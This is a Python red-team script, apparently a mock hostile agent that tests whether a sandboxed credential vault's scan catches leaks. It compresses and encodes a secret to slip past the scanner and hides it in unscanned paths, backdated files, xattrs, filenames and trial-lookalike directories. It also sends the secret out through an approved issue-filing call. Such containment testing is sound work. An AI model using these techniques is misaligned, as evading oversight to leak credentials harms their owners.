"""Red team 15 (jail): carry a credential out compressed, then encoded.

    rt15j_pack.py --var NAME --how out-gzip|out-zlib-hex|file-xz|body-gzip|var-tmp|new-tree|cwd-touch|cwd-xattr|var-tmp-name|cwd-deep|vsr-name|vsr-runner

Without a jail it may also write the value where the scan did not look: /var/tmp, a new tree
under /tmp, or a file in its working directory whose mtime it then puts back a day (`touch -d`).

Written from the agent contract (docs/agent-contract.md) and the README: the harness put a
credential in NAME. The scan looks for the value and its encodings (base64, hex, ...) and
decompresses a file that *begins* compressed; this agent compresses the value and then
encodes it, as `gzip | base64` does, on stdout, in a file's middle, or in the body of an
approved call that the vault forwards to the remote.
"""

import argparse
import base64
import gzip
import lzma
import os
import sys
import zlib

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "hostile"))
import _contract as c  # noqa: E402  (the hostile agents' contract-only client)


def main() -> int:
    p = argparse.ArgumentParser()
    p.add_argument("--var", required=True)
    p.add_argument("--how", required=True, choices=("out-gzip", "out-zlib-hex", "file-xz", "body-gzip", "var-tmp", "new-tree", "cwd-touch",
                                                       "cwd-xattr", "var-tmp-name", "cwd-deep",
                                                       "vsr-name", "vsr-runner"))
    p.add_argument("--title", default="Flaky login test")
    args, _ = p.parse_known_args()
    value = os.environ.get(args.var, "").encode()
    if args.how == "out-gzip":
        blob = base64.b64encode(gzip.compress(b"token=" + value)).decode()
        # wrapped as `base64` prints it (76 columns)
        c.say("debug bundle:\n" + "\n".join(blob[i:i + 76] for i in range(0, len(blob), 76)))
    elif args.how == "out-zlib-hex":
        c.note("state " + zlib.compress(value).hex())
    elif args.how == "file-xz":
        with open(os.path.join(os.environ.get("TMPDIR", "/tmp"), "cache.json"), "w") as f:
            f.write('{"v": 1, "blob": "' + base64.urlsafe_b64encode(lzma.compress(value)).decode() + '"}')
    elif args.how == "var-tmp":
        with open(f"/var/tmp/.rt15j-{os.getpid()}", "wb") as f:
            f.write(b"k=" + value)
    elif args.how == "new-tree":
        deep = f"/tmp/.rt15j-cache-{os.getpid()}/a/b/c"
        os.makedirs(deep)
        with open(os.path.join(deep, "entry"), "wb") as f:
            f.write(value)
    elif args.how == "cwd-touch":
        path = os.path.join(os.getcwd(), "rt15j-notes.txt")
        with open(path, "wb") as f:
            f.write(value)
        old = os.stat(path).st_mtime - 86400
        os.utime(path, (old, old))
        os.utime(os.getcwd(), (old, old))  # its directory too
    elif args.how == "cwd-deep":  # appended to a file that was there, deep down: no directory changes
        for base, _, files in os.walk(os.getcwd()):
            if base != os.getcwd() and "keep.txt" in files:
                with open(os.path.join(base, "keep.txt"), "ab") as f:
                    f.write(b"\n" + value)
                break
    elif args.how == "cwd-xattr":  # an empty file whose extended attribute holds it
        path = os.path.join(os.getcwd(), "rt15j-marked")
        open(path, "wb").close()
        os.setxattr(path, "user.note", value)
    elif args.how in ("vsr-name", "vsr-runner"):  # a tree named like a trial's root: vsr-*, or the runner's own vsr-PID-
        runner = os.path.basename(os.path.dirname(os.path.dirname(os.environ["VAULTSIM_SOCKET"]))).split("-")[1]
        tree = f"/tmp/vsr-x{os.getpid()}" if args.how == "vsr-name" else f"/tmp/vsr-{runner}-fake{os.getpid()}"
        os.makedirs(tree)
        with open(os.path.join(tree, "leak"), "wb") as f:
            f.write(value)
    elif args.how == "var-tmp-name":  # an empty file named by it
        open(f"/var/tmp/.rt15j-{os.getpid()}-" + value.decode(errors="replace").replace("/", "_"), "wb").close()
    else:
        agent = c.Agent("courier")
        body = "attachment (gzip): " + base64.b64encode(gzip.compress(value)).decode()
        r = agent.call("create_issue", {"title": args.title, "body": body}, wait_s=5)
        c.say("done: filed the issue" if r.get("ok") else f"not done: {r.get('category')}")
        return 0
    c.say("done: nothing to do")
    return 0


if __name__ == "__main__":
    sys.exit(main())
